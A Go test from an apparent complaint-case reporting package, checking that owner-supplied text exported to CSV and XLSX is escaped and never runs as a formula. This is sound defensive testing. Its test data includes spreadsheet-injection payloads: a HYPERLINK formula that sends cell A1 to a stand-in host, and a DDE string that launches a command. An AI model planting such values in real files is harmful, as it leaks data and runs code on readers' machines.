package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/heedhq/heed/cases/casestest"
)

// Owners' words that a spreadsheet would run as formulas: the register
// keeps them as text (issue 12).
func TestRegisterCellsAreNeverFormulas(t *testing.T) {
	db := casestest.DB(t)
	cfg := casestest.Config(t)
	received := time.Date(2026, 2, 3, 10, 0, 0, 0, shanghai)
	cells := map[string]string{ // column → text as the owner gave it
		"D": `=HYPERLINK("http://example.invalid/?"&A1,"点我")`,
		"E": "+85291234567",
		"G": "@SUM(1+1)*cmd|' /C calc'!A0",
		"H": "-2+3 楼上漏水",
		"S": "\t=1+1",
		"R": "\r=2+2",
	}
	_, err := db.Exec(`INSERT INTO cases (serial, status, channel, customer_name, contact_phone, community, unit,
		content, category, received_at, recorded_by, validity, department, measures, reply, created_at, updated_at)
		VALUES ('TS-2026-000901', 'received', 'telegram', $1, $2, 'xinghewan', $3, $4, 'repair', $5, 'test', 'pending',
		'engineering', $6, $7, $5, $5)`, cells["D"], cells["E"], cells["G"], cells["H"], received, cells["R"], cells["S"])
	if err != nil {
		t.Fatal(err)
	}
	p, err := ParsePeriod("2026-02", shanghai)
	if err != nil {
		t.Fatal(err)
	}
	col := func(c string) int { return int(c[0] - 'A') }

	var buf bytes.Buffer
	if err := WriteCSV(context.Background(), db, cfg, p, ZhCN, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	// With CRLF line ends encoding/csv drops a carriage return inside a
	// field: what is left must not start a formula either.
	if got := recs[1][col("R")]; got != "'=2+2" {
		t.Errorf("CSV column R is %q, want %q", got, "'=2+2")
	}
	for c, text := range cells {
		if got := recs[1][col(c)]; c != "R" && got != "'"+text {
			t.Errorf("CSV column %s is %q, want %q", c, got, "'"+text)
		}
	}
	if recs[1][0] != "TS-2026-000901" || recs[1][1] != "2026-02-03 10:00" {
		t.Errorf("serial and time changed: %q %q", recs[1][0], recs[1][1])
	}

	f := registerXLSX(t, db, cfg, p)
	sheet := RegisterSheet(ZhCN)
	for c, text := range cells {
		if formula, _ := f.GetCellFormula(sheet, c+"2"); formula != "" {
			t.Errorf("XLSX %s2 is the formula %q", c, formula)
		}
		if typ, _ := f.GetCellType(sheet, c+"2"); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("XLSX %s2 is of type %v, not a string", c, typ)
		}
		if v, _ := f.GetCellValue(sheet, c+"2"); v != text {
			t.Errorf("XLSX %s2 shows %q, want %q as written", c, v, text)
		}
	}
}
